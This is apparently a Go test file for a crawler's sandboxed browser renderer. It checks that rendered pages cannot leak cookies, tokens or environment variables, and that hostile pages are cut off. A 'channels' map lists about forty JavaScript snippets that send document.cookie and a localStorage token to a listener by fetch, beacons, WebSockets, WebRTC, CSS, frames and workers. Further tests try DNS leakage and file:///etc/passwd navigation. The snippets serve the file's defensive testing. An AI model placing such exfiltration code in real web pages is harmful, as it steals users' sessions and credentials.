package render_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/fincrawl/fincrawl/crawler/web/render"
)

// listener notes whoever speaks to it, by TCP or UDP, whatever they say.
type listener struct {
	at    string
	mu    sync.Mutex
	heard []string
}

func listen(t *testing.T) *listener {
	t.Helper()
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l := &listener{at: tcp.Addr().String()}
	udp, err := net.ListenPacket("udp", l.at)
	if err != nil {
		t.Fatal(err)
	}
	var all sync.WaitGroup
	t.Cleanup(func() {
		tcp.Close()
		udp.Close()
		all.Wait()
	})
	note := func(what string) {
		l.mu.Lock()
		defer l.mu.Unlock()
		l.heard = append(l.heard, what)
	}
	all.Go(func() {
		for {
			c, err := tcp.Accept()
			if err != nil {
				return
			}
			text := make([]byte, 300)
			c.SetReadDeadline(time.Now().Add(time.Second))
			n, _ := c.Read(text)
			note("tcp " + string(text[:n]))
			c.Close()
		}
	})
	all.Go(func() {
		for {
			n, _, err := udp.ReadFrom(make([]byte, 300))
			if err != nil {
				return
			}
			note(fmt.Sprintf("udp, %d bytes", n))
		}
	})
	return l
}

func (l *listener) all() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return slices.Clone(l.heard)
}

// channels are the ways in which a script may try to say something to another host, at AT, which is its host and port.
var channels = map[string]string{
	"fetch":           `await fetch("http://AT/?" + secret).catch(() => {})`,
	"fetch no-cors":   `await fetch("http://AT/?" + secret, {mode: "no-cors"}).catch(() => {})`,
	"POST":            `await fetch("http://AT/", {method: "POST", mode: "no-cors", body: secret}).catch(() => {})`,
	"keepalive":       `fetch("http://AT/?" + secret, {keepalive: true, mode: "no-cors"}).catch(() => {})`,
	"fetchLater":      `fetchLater("http://AT/?" + secret, {activateAfter: 0})`,
	"XHR":             `await new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = r; x.open("GET", "http://AT/?" + secret); x.send() })`,
	"synchronous XHR": `const x = new XMLHttpRequest(); x.open("GET", "http://AT/?" + secret, false); x.send()`,
	"EventSource":     `new EventSource("http://AT/?" + secret)`,
	"beacon":          `navigator.sendBeacon("http://AT/", secret)`,
	"WebSocket":       `new WebSocket("ws://AT/" + secret)`,
	"WebTransport":    `await new WebTransport("https://AT/" + secret).ready`,
	"script":          `document.head.append(Object.assign(document.createElement("script"), {src: "http://AT/?" + secret}))`,
	"module":          `document.head.append(Object.assign(document.createElement("script"), {type: "module", src: "http://AT/?" + secret}))`,
	"import":          `await import("http://AT/?" + secret).catch(() => {})`,
	"style sheet":     `document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: "http://AT/?" + secret}))`,
	"CSS import":      `document.head.append(Object.assign(document.createElement("style"), {textContent: "@import 'http://AT/?" + secret + "'"}))`,
	"CSS picture":     `document.body.style.background = "url(http://AT/?" + secret + ")"`,
	"CSS font":        `document.head.append(Object.assign(document.createElement("style"), {textContent: "@font-face{font-family:x;src:url(http://AT/?" + secret + ")} body{font-family:x}"}))`,
	"picture":         `new Image().src = "http://AT/?" + secret`,
	"audio":           `new Audio("http://AT/?" + secret).play().catch(() => {})`,
	"frame":           `document.body.append(Object.assign(document.createElement("iframe"), {src: "http://AT/?" + secret}))`,
	"frame of text":   `document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: "<script>fetch('http://AT/?" + secret + "')<\/script><img src=http://AT/>"}))`,
	"sandboxed frame": `const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.srcdoc = "<script>fetch('http://AT/?" + secret + "', {mode: 'no-cors'})<\/script><img src=http://AT/>"; document.body.append(f)`,
	"object":          `document.body.append(Object.assign(document.createElement("object"), {data: "http://AT/?" + secret}))`,
	"embed":           `document.body.append(Object.assign(document.createElement("embed"), {src: "http://AT/?" + secret}))`,
	"form":            `const f = Object.assign(document.createElement("form"), {action: "http://AT/?" + secret, method: "post", target: "x"}); document.body.append(f); f.submit()`,
	"window":          `window.open("http://AT/?" + secret)`,
	"ping":            `const a = Object.assign(document.createElement("a"), {href: "#x", ping: "http://AT/?" + secret}); document.body.append(a); a.click()`,
	"prefetch":        `document.head.append(Object.assign(document.createElement("link"), {rel: "prefetch", href: "http://AT/?" + secret}))`,
	"preload":         `document.head.append(Object.assign(document.createElement("link"), {rel: "preload", as: "script", href: "http://AT/?" + secret}))`,
	"preconnect":      `document.head.append(Object.assign(document.createElement("link"), {rel: "preconnect", href: "http://AT/"}))`,
	"manifest":        `document.head.append(Object.assign(document.createElement("link"), {rel: "manifest", href: "http://AT/?" + secret}))`,
	"icon":            `document.head.append(Object.assign(document.createElement("link"), {rel: "icon", href: "http://AT/?" + secret}))`,
	"speculation":     `document.head.append(Object.assign(document.createElement("script"), {type: "speculationrules", textContent: JSON.stringify({prefetch: [{source: "list", urls: ["http://AT/?" + secret]}]})}))`,
	"worker":          `new Worker(URL.createObjectURL(new Blob(["fetch('http://AT/?" + secret + "', {mode: 'no-cors'}); importScripts('http://AT/x.js')"])))`,
	"shared worker":   `new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://AT/?" + secret + "', {mode: 'no-cors'})"])))`,
	"service worker":  `const s = await navigator.serviceWorker.register("/sw.js?" + secret); await s.update()`,
	"redirect":        `await fetch("/away?" + secret).catch(() => {})`,
	"WebRTC": `const c = new RTCPeerConnection({iceServers: [{urls: "stun:AT"}, {urls: "turn:AT", username: secret.slice(0, 9), credential: "x"},
		{urls: "turn:AT?transport=tcp", username: "a", credential: "x"}]}); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer())`,
	"WebRTC of a frame": `const f = document.createElement("iframe"); document.body.append(f); const R = f.contentWindow.RTCPeerConnection;
		const c = new R({iceServers: [{urls: "stun:AT"}]}); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer())`,
	"WebRTC of a sandboxed frame": `const f = document.createElement("iframe"); f.sandbox = "allow-scripts";
		f.srcdoc = "<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:AT'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))<\/script>"; document.body.append(f)`,
	"navigation": `setTimeout(() => { location = "http://AT/?" + secret }, 400)`,
}

// spies is a page that tries all channels at once, with what it knows of the session.
func spies(l *listener) string {
	var b strings.Builder
	b.WriteString(`<!doctype html><body><p id=done>text</p><script>localStorage.setItem("token", "l0cal-t0ken-value");
		const secret = encodeURIComponent(document.cookie + localStorage.getItem("token"));
		const attack = (name, f) => f().catch(e => console.log(name, e));`)
	for name, body := range channels {
		fmt.Fprintf(&b, "attack(%q, async () => { %s });\n", name, strings.ReplaceAll(body, "AT", l.at))
	}
	b.WriteString(`</script>`)
	return b.String()
}

func newSpied(t *testing.T) (*place, render.Site) {
	t.Helper()
	p := newPlace(t)
	site := p.site(t)
	site.Inside.Jar.SetCookies(site.URL, []*http.Cookie{{Name: "session", Value: "s3cret-session-value"}})
	site.Readable = site.Inside.Jar.Cookies
	site.MayOpen = func(_, to *url.URL) error {
		if to.Host != site.URL.Host {
			return errElsewhere
		}
		return nil
	}
	return p, site
}

func TestScriptsSayNothingToOtherHosts(t *testing.T) {
	l := listen(t)
	p, site := newSpied(t)
	p.mux.HandleFunc("/away", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://"+l.at+"/?"+r.URL.RawQuery, 302)
	})
	p.mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, `fetch("http://%s/?worker", {mode: "no-cors"}); importScripts("http://%s/x.js")`, l.at, l.at)
	})
	p.page("/", spies(l))
	b := newBrowser(t, render.Config{}, site)
	if _, err := b.Render(t.Context(), plain(t, site, "/")); !errors.Is(err, errElsewhere) {
		t.Errorf("got %v, want that the page may not be left", err)
	}
	b.Close() // with which what is sent late is sent
	if heard := l.all(); len(heard) > 0 {
		t.Errorf("another host heard %q", heard)
	}
}

// callers are the documents of which each may have a way of its own to speak UDP: CALL is a script that tries.
var callers = map[string]string{
	"the page":                              `<script>CALL</script>`,
	"an empty frame":                        `<iframe id=f></iframe><script>{ const RTCPeerConnection = f.contentWindow.RTCPeerConnection; CALL }</script>`,
	"a frame of text":                       `<iframe srcdoc="<script>CALL</script>"></iframe>`,
	"a sandboxed frame":                     `<iframe sandbox="allow-scripts" srcdoc="<script>CALL</script>"></iframe>`,
	"a sandboxed frame that a script makes": `<script>{ const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.srcdoc = "<script>CALL<\/script>"; document.body.append(f) }</script>`,
	"a frame in a sandboxed frame":          `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<iframe sandbox='allow-scripts' srcdoc='<script>CALL</script>'></iframe>"></iframe>`,
	"a frame of data":                       `<iframe src="data:text/html,<script>CALL</script>"></iframe>`,
	"a frame of a blob":                     `<script>{ const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<script>CALL<\/script>"], {type: "text/html"})); document.body.append(f) }</script>`,
	"a sandboxed blob":                      `<script>{ const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.src = URL.createObjectURL(new Blob(["<script>CALL<\/script>"], {type: "text/html"})); document.body.append(f) }</script>`,
	"a frame of a script":                   `<iframe src="javascript:'<script>CALL</script>'"></iframe>`,
	"a frame of the site":                   `<iframe src="/frame"></iframe>`,
	"a sandboxed frame of the site":         `<iframe sandbox="allow-scripts" src="/frame"></iframe>`,
	"an object":                             `<object data="/frame" type="text/html"></object>`,
	"a frame from outside":                  `<iframe src="http://localhost:PORT/frame"></iframe>`,
	"a window":                              `<script>{ const w = window.open("about:blank"); if (w) { const RTCPeerConnection = w.RTCPeerConnection; CALL } }</script>`,
}

// A browser that runs elsewhere may have been started without the switch that keeps WebRTC from UDP.
func TestARemoteBrowserSpeaksNoUDP(t *testing.T) {
	temp := ownTemp(t)
	p, site := newSpied(t)
	newBrowser(t, render.Config{}, site) // or the test is skipped
	b := newBrowser(t, render.Config{Remote: "ws://127.0.0.1:" + sidecar(t, temp)}, site)
	p.mux.HandleFunc("/wait", func(http.ResponseWriter, *http.Request) { time.Sleep(time.Second) }) // what was begun is sent meanwhile
	page := `<body><p>text</p><script>fetch("/wait")</script>`
	ears := map[string]*listener{}
	for name, html := range callers {
		l := listen(t)
		ears[name] = l
		call := `const c = new RTCPeerConnection({iceServers: [{urls: 'stun:` + l.at + `'}]}); c.createDataChannel('x'); c.createOffer().then(function(o) { c.setLocalDescription(o) })`
		path := "/" + strings.ReplaceAll(name, " ", "-")
		p.page(path, "<script>"+call+"</script>")
		page += strings.NewReplacer("CALL", call, "/frame", path, "PORT", site.URL.Port()).Replace(html)
	}
	p.page("/", page)
	rendered(t, b, plain(t, site, "/"))
	for name, l := range ears {
		if heard := l.all(); len(heard) > 0 {
			t.Errorf("%s: somebody heard %q", name, heard)
		}
	}
}

// What the browser is told so as to keep a page from other ways than requests leaves all requests to it.
func TestAPageOfARemoteBrowserAsksAsInOneOfOurs(t *testing.T) {
	temp := ownTemp(t)
	p, site := newSpied(t)
	newBrowser(t, render.Config{}, site) // or the test is skipped
	p.page("/", `<body><p>text</p><script src="/own.js"></script><script type=module src="/own.mjs"></script><script type=module>
		import "data:text/javascript,document.body.append(' data')";
		const say = text => document.body.append(" " + text);
		const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + location.origin + "/own.txt').then(r => r.text()).then(t => postMessage('worker-' + t))"])));
		worker.onmessage = e => say(e.data);
		const said = {
			moved: () => fetch("/moved").then(r => r.text()), data: () => fetch("data:text/plain,data").then(r => r.text()),
			blob: () => fetch(URL.createObjectURL(new Blob(["blob"]))).then(r => r.text()),
			imported: () => import(URL.createObjectURL(new Blob(["export default 'blob'"], {type: "text/javascript"}))).then(m => m.default),
			other: () => fetch("http://localhost:" + location.port + "/own.txt").then(r => r.text()),
		};
		for (const name in said) said[name]().catch(e => e.name).then(text => say(name + "-" + text))
		</script>`)
	for path, text := range map[string]string{"/own.js": "document.body.append(' script')", "/own.mjs": "document.body.append(' module')", "/own.txt": "own"} {
		p.mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) {
			if strings.HasSuffix(path, "js") {
				w.Header().Set("Content-Type", "text/javascript")
			}
			w.Header().Set("Access-Control-Allow-Origin", "*")
			io.WriteString(w, text)
		})
	}
	p.mux.Handle("/moved", http.RedirectHandler("/own.txt", http.StatusFound))
	site.Hosts, site.Named = []string{"localhost"}, site.Outside
	said := func(config render.Config) []string {
		html := string(rendered(t, newBrowser(t, config, site), plain(t, site, "/")).HTML)
		_, after, _ := strings.Cut(html, "\t\t</script>")
		words := strings.Fields(strings.TrimSuffix(after, "</body></html>"))
		slices.Sort(words)
		return words
	}
	want := said(render.Config{})
	got := said(render.Config{Remote: "ws://127.0.0.1:" + sidecar(t, temp)})
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("said in a remote browser (-ours +remote):\n%s", diff)
	}
	if len(want) < 8 || strings.Contains(strings.Join(want, " "), "Error") {
		t.Errorf("it said no more than %q", want)
	}
}

// What a script asks for is counted, without what it would have told.
func TestWhatIsRefusedIsSaid(t *testing.T) {
	p, site := newSpied(t)
	p.page("/", `<body><p>text</p><script>
		for (const path of ["/a?" + document.cookie, "/b"]) fetch("http://api.example.com" + path).catch(() => {});
		fetch("http://" + document.cookie.replace(/\W/g, "") + ".example.com/").catch(() => {});
		fetch("/out").catch(() => {}); fetch("/list", {method: "DELETE"}).catch(() => {});</script>`)
	site.MayAsk = func(u *url.URL) (why, key string) {
		if u.Path == "/out" {
			return "it logs out", ""
		}
		return "", ""
	}
	doc := rendered(t, newBrowser(t, render.Config{}, site), plain(t, site, "/"))
	want := []render.Refusal{
		{Address: "(an address with a value of the session in it)", Why: "another host, and the page as it was served does not name this address", Count: 1},
		{Address: "/list", Why: "a script may only read, not DELETE", Count: 1},
		{Address: "/out", Why: "it logs out", Count: 1},
		{Address: "http://api.example.com", Why: "another host, and the page as it was served does not name this address", Key: "render.hosts: [api.example.com]", Count: 2},
	}
	if diff := cmp.Diff(want, doc.Refused); diff != "" {
		t.Errorf("refused (-want +got):\n%s", diff)
	}
	if got := p.requests(); !slices.Equal(got, []string{"GET /"}) {
		t.Errorf("the site was asked for %q", got)
	}
}

// A page gets the files of other hosts that it names as it is served, each once, whatever its scripts do.
func TestAPageGetsTheFilesThatItNames(t *testing.T) {
	p, other := newPlace(t), newPlace(t)
	put := func(on *place, path, kind, text string) {
		on.mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", kind)
			io.WriteString(w, strings.ReplaceAll(text, "OTHER", other.URL))
		})
	}
	const js, css = "text/javascript", "text/css"
	put(other, "/lib.js", js, `window.lib = "lib"; document.head.append(Object.assign(document.createElement("script"), {src: "OTHER/more.js"}))`)
	put(other, "/main.css", css, `@import "more.css"; @import url('OTHER/more2.css') screen; p { color: red }`)
	put(other, "/more.css", css, ``)
	put(other, "/more2.css", css, ``)
	put(other, "/kit/index.js", js, `import{x as y}from"./part.js";export*from'../kit/part2.js';export const kit = "kit" + y; import("./lazy.js").catch(() => {});`)
	put(other, "/kit/part.js", js, `export const x = "part"`)
	put(other, "/kit/part2.js", js, `export const z = 1`)
	put(other, "/kit/lazy.js", js, ``)
	put(other, "/mapped.js", js, `export default "mapped"`)
	put(other, "/unwanted.js", js, ``)
	put(other, "/from-own.js", js, `export default "own"`)
	put(p, "/own.js", js, `import own from "OTHER/from-own.js"; window.own = own; import("OTHER/dynamic.js").catch(() => {})`)
	other.mux.HandleFunc("/moved.js", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/moved/1.js", http.StatusFound) })
	put(other, "/moved/1.js", js, `window.moved = "moved"`)
	p.mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, strings.ReplaceAll(`<!doctype html><script type=importmap>{"imports": {"mapped": "OTHER/mapped.js"}}</script>
			<link rel=stylesheet href="OTHER/main.css"><link rel=preload as=script href="OTHER/unwanted.js"><link rel=preload as=script href="OTHER/token.js?s3cret-session-value">
			<script src="OTHER/lib.js"></script><script src="OTHER/moved.js"></script><script type=module src=/own.js></script>
			<noscript><link rel=stylesheet href="OTHER/noscript.css"></noscript><template><script src="OTHER/template.js"></script></template>
			<body><script type=module>import {kit} from "OTHER/kit/index.js"; import mapped from "mapped";
			const again = await fetch("OTHER/lib.js", {headers: {"accept": "s3cret"}}).then(r => r.status);
			const none = await fetch("OTHER/lib.js?x").then(r => r.status).catch(() => "none");
			document.body.append([lib, moved, kit, mapped, own, again, none].join(" "))</script>`, "OTHER", other.URL))
	})
	site := p.site(t)
	site.Inside.Jar.SetCookies(site.URL, []*http.Cookie{{Name: "session", Value: "s3cret-session-value", HttpOnly: true}})
	doc := rendered(t, newBrowser(t, render.Config{}, site), plain(t, site, "/"))
	if want := "lib moved kitpart mapped own 200 none"; !strings.Contains(string(doc.HTML), want) {
		t.Errorf("got %s\nrefused %v", doc.HTML, doc.Refused)
	}
	got := other.requests()
	slices.Sort(got)
	want := []string{"GET /from-own.js", "GET /kit/index.js", "GET /kit/part.js", "GET /kit/part2.js", "GET /lib.js", "GET /main.css", "GET /mapped.js",
		"GET /more.css", "GET /more2.css", "GET /moved.js", "GET /moved/1.js", "GET /unwanted.js"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("requests to the other host (-want +got):\n%s", diff)
	}
	for _, r := range other.received() {
		for name := range r.Header {
			if !slices.Contains([]string{"Accept", "Accept-Encoding", "User-Agent"}, name) || strings.Contains(fmt.Sprint(r.Header[name]), "s3cret") {
				t.Errorf("%s was asked for with %s: %s", r.URL, name, r.Header[name])
			}
		}
	}
}

// A link may have in it what the page then shows, such as a search; that does not make it the page's word.
func TestAnAddressThatTheLinkBringsIsNotThePages(t *testing.T) {
	p, other := newPlace(t), newPlace(t)
	p.mux.HandleFunc("/search", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<body><p>You searched for %s</p>`, r.FormValue("q"))
	})
	site := p.site(t)
	page := plain(t, site, "/search") // to be asked for with a query
	page.URL = p.url("/search?q=" + url.QueryEscape(`<script src="`+other.URL+`/x.js?told"></script>`))
	page.Body = []byte(`<body><p>You searched for <script src="` + other.URL + `/x.js?told"></script></p>`)
	rendered(t, newBrowser(t, render.Config{}, site), page)
	if got := other.requests(); len(got) > 0 {
		t.Errorf("the other host was asked for %q", got)
	}
}

func TestNamesAreResolvedForNobodyElse(t *testing.T) {
	p, site := newSpied(t)
	p.page("/", `<body><link rel=dns-prefetch href="//served.example.com"><p>text</p><script>
		const told = document.cookie.replace(/\W/g, "") + ".example.com";
		fetch("http://" + told + "/").catch(() => {}); new Image().src = "http://x" + told + "/";
		document.head.append(Object.assign(document.createElement("link"), {rel: "dns-prefetch", href: "//y" + told}))</script>`)
	var mu sync.Mutex
	var dialled []string
	transport := &http.Transport{DialContext: func(_ context.Context, _, address string) (net.Conn, error) {
		mu.Lock()
		defer mu.Unlock()
		dialled = append(dialled, address)
		return nil, errElsewhere
	}}
	site.Outside = &http.Client{Transport: transport}
	rendered(t, newBrowser(t, render.Config{}, site), plain(t, site, "/"))
	mu.Lock()
	defer mu.Unlock()
	if len(dialled) > 0 {
		t.Errorf("these were resolved: %q", dialled)
	}
}

func TestTheBrowserGetsACleanEnvironment(t *testing.T) {
	p := newPlace(t)
	site := p.site(t)
	newBrowser(t, render.Config{}, site) // or the test is skipped
	t.Setenv("INTERCOM_TOKEN", "t0ken")
	t.Setenv("HTTP_PROXY", "http://user:s3cret@127.0.0.1:9")
	dir := t.TempDir()
	told, program := filepath.Join(dir, "told"), filepath.Join(dir, "browser")
	if err := os.WriteFile(program, []byte("#!/bin/sh\nenv > "+told+"\nexec chromium \"$@\"\n"), 0o700); err != nil { //nolint:gosec // is a program
		t.Fatal(err)
	}
	p.page("/", `<p>text</p>`)
	rendered(t, newBrowser(t, render.Config{Path: program}, site), plain(t, site, "/"))
	text, err := os.ReadFile(told)
	if err != nil {
		t.Fatal(err)
	}
	allowed := []string{"HOME", "TMPDIR", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "PATH", "LANG", "LANGUAGE", "LC_ALL", "LC_CTYPE", "LC_MESSAGES", "TZ",
		"PWD", "OLDPWD", "SHLVL", "_"} // the last are the shell's own
	for line := range strings.Lines(string(text)) {
		if name, _, _ := strings.Cut(line, "="); !slices.Contains(allowed, name) {
			t.Errorf("the browser got %s", line)
		}
	}
}

func TestAPageThatTakesTooMuchMemoryIsEnded(t *testing.T) {
	p := newPlace(t)
	site := p.site(t)
	site.Timeout = time.Minute
	p.page("/hog", `<p>text</p><script>const all = []; const grow = () => { for (let i = 0; i < 4; i++) all.push(new Uint8Array(16 << 20).fill(i + 1)); if (all.length < 256) setTimeout(grow, 20) }; grow()</script>`)
	p.page("/strings", `<p>text</p><script>const all = []; const grow = () => { for (let i = 0; i < 100; i++) all.push(Array.from({length: 40000}, (_, n) => ({n}))); if (all.length < 4000) setTimeout(grow, 20) }; grow()</script>`)
	p.page("/well", `<p>text</p>`)
	b := newBrowser(t, render.Config{MaxMemory: 600_000_000}, site)
	for _, path := range []string{"/hog", "/strings"} {
		if _, err := b.Render(t.Context(), plain(t, site, path)); !errors.Is(err, render.ErrTooMuchMemory) {
			t.Errorf("%s: got %v, want that it takes too much memory", path, err)
		}
	}
	rendered(t, b, plain(t, site, "/well"))
}

func TestADocumentOfScriptsIsNotThePage(t *testing.T) {
	p, site := newSpied(t)
	b := newBrowser(t, render.Config{}, site)
	for name, script := range map[string]string{
		"blob":  `location = URL.createObjectURL(new Blob(["<p>instead</p>"], {type: "text/html"}))`,
		"about": `location = "about:blank"`,
		"data":  `location = "data:text/html,<p>instead</p>"`,
		"file":  `location = "file:///etc/passwd"`,
	} {
		t.Run(name, func(t *testing.T) {
			p.page("/"+name, `<p>text</p><script>`+script+`</script>`)
			doc, err := b.Render(t.Context(), plain(t, site, "/"+name))
			if err == nil && strings.Contains(string(doc.HTML), "<p>text</p>") && doc.URL.Path == "/"+name {
				return // the browser itself stayed
			}
			if !errors.Is(err, render.ErrNoPage) {
				t.Errorf("got %v, %s, want that this is no page", err, doc.HTML)
			}
		})
	}
}
